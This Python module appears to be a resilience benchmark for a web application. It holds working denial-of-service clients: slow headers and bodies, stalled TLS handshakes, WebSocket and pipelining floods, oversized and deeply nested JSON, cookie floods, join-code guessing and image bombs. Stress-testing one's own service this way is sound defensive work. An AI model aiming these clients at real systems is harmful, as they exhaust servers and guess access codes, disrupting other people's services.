"""Hostile clients for `benchmarks.abuse`: each acts for a few seconds and reports what it achieved.

They run in a process of their own at the lowest priority, since in a lab they would have a computer of their own.
"""

from __future__ import annotations

import json
import socket
import ssl
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

KEY = "dGhlIHNhbXBsZSBub25jZQ=="
GOES_ON, TEXT = 0x00, 0x01
WHOLE = 0x80 | TEXT


@dataclass
class Target:
    """The target of an attack, its credential, and counts."""

    url: str
    authority: str
    seconds: float
    cookie: str
    session: str
    device: str
    code: str
    reader: str
    script: str
    bombs: str
    photographed: str
    done: Counter[str] = field(default_factory=Counter)

    def __post_init__(self) -> None:
        self._ends = time.monotonic() + self.seconds
        self._context = ssl.create_default_context(cafile=self.authority)

    @property
    def on(self) -> bool:
        """Whether there is time left."""
        return time.monotonic() < self._ends

    def connect(self) -> ssl.SSLSocket:
        """Return a new connection."""
        host = urlsplit(self.url)
        plain = socket.create_connection((host.hostname or "", host.port or 443), timeout=5)
        self.done["connections"] += 1
        return self._context.wrap_socket(plain, server_hostname=host.hostname)

    def send_on(self, head: bytes, piece: bytes, what: str) -> None:
        """Send ``head``, then ``piece`` again and again on connection after connection."""
        while self.on:
            with suppress(OSError), self.connect() as connection:
                connection.sendall(head)
                while self.on:
                    connection.sendall(piece)
                    self.done[what] += len(piece)

    def ask(self, method: str, path: str, body: str = "", more: str = "", count: int = 1 << 30) -> None:
        """Send requests one after another on one connection, and count the answers by status."""
        self.repeat(_request(method, path, more, body), count)

    def repeat(self, request: bytes, count: int = 1 << 30) -> None:
        """Send the same bytes one after another on one connection, and count the answers by status."""
        while self.on and count > 0:
            with suppress(OSError), self.connect() as connection, connection.makefile("rb") as answers:
                while self.on and count > 0:
                    count -= 1
                    connection.sendall(request)
                    if not (status := _status(answers)):
                        break
                    self.done[status] += 1


def frames(target: Target) -> None:
    """WebSocket frames of 99 kB by a stranger."""
    target.send_on(_upgrade(""), _frame(b"4" + b"x" * 99_000, WHOLE), "bytes")


def fragments(target: Target) -> None:
    """Send a message that never ends, as a phone."""
    head = _upgrade(target.cookie) + _frame(b"4", TEXT)
    target.send_on(head, _frame(b"x" * 60_000, GOES_ON), "bytes")


def pipeline(target: Target) -> None:
    """Send requests without waiting for answers."""
    requests = _request("GET", "/api/v1/health") * 200
    while target.on:
        with suppress(OSError), target.connect() as connection:
            while target.on:
                connection.sendall(requests)
                heard = 0
                while heard < 200 and (piece := connection.recv(65536)):
                    heard += piece.count(b"HTTP/1.1 200")
                target.done["200"] += heard


def endless_body(target: Target) -> None:
    """Send an unsolicited body of 900 GB."""
    head = _request("POST", "/api/v1/images", "Content-Type: image/png\r\nContent-Length: 900000000000\r\n")
    target.send_on(head, bytes(65536), "bytes")


def slow_bodies(target: Target) -> None:
    """1,020 bodies that come in byte by byte."""
    head = _request("POST", "/api/v1/sign-in", "Content-Type: application/json\r\nContent-Length: 3900\r\n")
    held: list[ssl.SSLSocket] = []

    def hold(_: int) -> None:
        with suppress(OSError):
            if target.on:
                connection = target.connect()
                held.append(connection)
                connection.sendall(head)

    with ThreadPoolExecutor(16) as pool:
        list(pool.map(hold, range(1020)))
    _drip(target, held, b" ", 1)


def silent(target: Target) -> None:
    """600 connections that say nothing."""
    _hold(target, b"", b"")


def half_handshakes(target: Target) -> None:
    """600 handshakes that come in byte by byte."""
    _hold(target, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"\x00")


def slow_headers(target: Target) -> None:
    """300 requests whose headers come in byte by byte."""
    held: list[ssl.SSLSocket] = []
    while target.on and len(held) < 300:
        with suppress(OSError):
            held.append(target.connect())
            held[-1].sendall(b"GET /api/v1/health HTTP/1.1\r\nX-")
    _drip(target, held, b"x", 0.5)


def sockets(target: Target) -> None:
    """Open WebSockets one after another, as a phone, and leave them open."""
    held = []
    while target.on:
        with suppress(OSError):
            connection = target.connect()
            connection.sendall(_upgrade(target.cookie))
            held.append(connection)
    for connection in held:
        connection.close()


def deep_json(target: Target) -> None:
    """Send JSON nested 1,900 deep, as a stranger."""
    body = "[" * 1900 + "]" * 1900
    _together(target, 4, lambda: target.ask("POST", "/api/v1/join", body))


def huge_json(target: Target) -> None:
    """Send JSON of 900 kB, as a phone."""
    body = json.dumps({"code": target.code, "name": "x" * 900_000})
    cookie = f"Cookie: {target.cookie}\r\n"
    _together(target, 4, lambda: target.ask("POST", "/api/v1/join", body, cookie))


def cookies(target: Target) -> None:
    """64 connections that send 3,500 made-up cookies with every request."""
    made_up = [
        "Cookie: " + "; ".join(f"phone-{part:02x}{number:04x}=a" for number in range(500))
        for part in range(7)
    ]
    _together(target, 64, lambda: target.ask("GET", "/api/v1/sessions", more="\r\n".join([*made_up, ""])))


def messages(target: Target) -> None:
    """Send `ready` without a pause, as a phone."""
    enter = _frame(b"40/phone," + json.dumps({"session": target.session}).encode(), WHOLE)
    ready = json.dumps(["ready", {"generation": 1, "ready": True, "code": "", "status": {}}]).encode()
    target.send_on(_upgrade(target.cookie) + enter, _frame(b"42/phone," + ready, WHOLE) * 20, "bytes")


def joins(target: Target) -> None:
    """600 devices by one code."""
    body = json.dumps({"code": target.code, "name": "Phone"})
    _together(target, 4, lambda: target.ask("POST", "/api/v1/join", body, count=150))


def guesses(target: Target) -> None:
    """300 codes guessed at once."""
    _together(
        target, 300, lambda: target.ask("POST", "/api/v1/join", json.dumps({"code": "AAAAAA"}), count=1)
    )


def bombs(target: Target) -> None:
    """Bombs in every image format, to be transformed by a script."""
    more = f"Authorization: Bearer {target.script}\r\nContent-Type: application/octet-stream\r\n"
    made = [file.read_bytes() for file in sorted(Path(target.bombs).iterdir())]
    while target.on:
        for bomb in made:
            head = f"{more}Content-Length: {len(bomb)}\r\n"
            target.repeat(_request("POST", "/api/v1/transforms/identity?width=32", head) + bomb, 1)


def many_sessions(target: Target) -> None:
    """Four connections of a reader that list 10,000 sessions all the time."""
    more = f"Cookie: {target.reader}\r\n"
    _together(target, 4, lambda: target.ask("GET", "/api/v1/reviews/sessions", more=more))


def filling_phone(target: Target) -> None:
    """Photos of 4 MB that nobody asked for, as a phone."""
    more = (
        f"Cookie: {target.cookie}\r\nContent-Type: image/jpeg\r\nContent-Length: 4000000\r\n"
        f"Content-Digest: sha-256=:{'A' * 43}=:\r\n"
    )
    path = f"/api/v1/sessions/{target.session}/phones/{target.device}/photos/1/{{}}"
    bodies = bytes(4_000_000)
    for attempt in range(1, 1 << 30):
        if not target.on:
            return
        target.repeat(_request("PUT", path.format(attempt), more) + bodies, 1)


def filling_stranger(target: Target) -> None:
    """Self-tests and 4 MB to measure a connection by, as a stranger."""
    more = "Content-Type: application/octet-stream\r\nContent-Length: 4000000\r\n"
    upload = _request("POST", "/api/v1/selftests/bytes", more) + bytes(4_000_000)
    while target.on:
        target.repeat(upload, 1)
        target.ask("POST", "/api/v1/selftests", json.dumps({"browser": "x" * 300}), count=5)


def filling_reader(target: Target) -> None:
    """Send the longest verdict on a photo again and again, as a reader."""
    photo = {"set": "set-0-a", "index": 1, "attempt": 1}
    body = json.dumps({"reader": "reviewer", "choice": "usable", "note": "x" * 500, **photo})
    more = f"Cookie: {target.reader}\r\n"
    path = f"/api/v1/sessions/{target.photographed}/reviews"
    _together(target, 4, lambda: target.ask("POST", path, body, more))


ABUSES: dict[str, Callable[[Target], None]] = {
    act.__name__: act
    for act in (
        *(frames, fragments, pipeline, endless_body, slow_bodies, slow_headers, silent, half_handshakes),
        *(sockets, deep_json, huge_json, cookies, messages, joins, bombs),
        *(filling_phone, filling_stranger, filling_reader, many_sessions),
        guesses,  # the last: nobody can join from its address for a minute
    )
}


def _hold(target: Target, first: bytes, then: bytes) -> None:
    """Open 600 connections below TLS, say something, and then something more each second."""
    host = urlsplit(target.url)
    held: list[socket.socket] = []
    while target.on and len(held) < 600:
        with suppress(OSError):
            held.append(socket.create_connection((host.hostname or "", host.port or 443), timeout=5))
            held[-1].sendall(first)
            target.done["connections"] += 1
    _drip(target, held, then, 1)


def _drip(target: Target, held: Sequence[socket.socket], byte: bytes, every_s: float) -> None:
    """Send a byte on each connection again and again, and close them in the end."""
    while target.on:
        for connection in held:
            with suppress(OSError):
                connection.sendall(byte)
        time.sleep(every_s)
    for connection in held:
        connection.close()


def _together(target: Target, many: int, act: Callable[[], None]) -> None:
    with ThreadPoolExecutor(many) as pool:
        for _ in range(many):
            pool.submit(act)
    assert target.done


def _request(method: str, path: str, more: str = "", body: str = "") -> bytes:
    about = f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n" if body else ""
    return f"{method} {path} HTTP/1.1\r\nHost: localhost\r\n{more}{about}\r\n{body}".encode()


def _upgrade(cookie: str) -> bytes:
    more = (
        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        f"Sec-WebSocket-Key: {KEY}\r\nCookie: {cookie}\r\n"
    )
    return _request("GET", "/socket.io/?EIO=4&transport=websocket", more)


def _frame(payload: bytes, opcode: int) -> bytes:
    size = len(payload)
    if size < 126:
        length = bytes([0x80 | size])
    else:
        length = struct.pack("!BH", 0xFE, size) if size < 65536 else struct.pack("!BQ", 0xFF, size)
    return bytes([opcode]) + length + bytes(4) + payload


def _status(answers: object) -> str:
    """Read one answer; returns its status, nothing when the connection has ended."""
    read = answers.readline  # type: ignore[attr-defined]
    first, length = read().split(), 0
    while (line := read().lower()) not in (b"\r\n", b""):
        if line.startswith(b"content-length:"):
            length = int(line.split(b":")[1])
    answers.read(length)  # type: ignore[attr-defined]
    return first[1].decode() if len(first) > 1 else ""


if __name__ == "__main__":
    name, url, authority, seconds, *rest = sys.argv[1:]
    chosen = Target(url, authority, float(seconds), *rest)
    ABUSES[name](chosen)
    print(json.dumps(chosen.done))
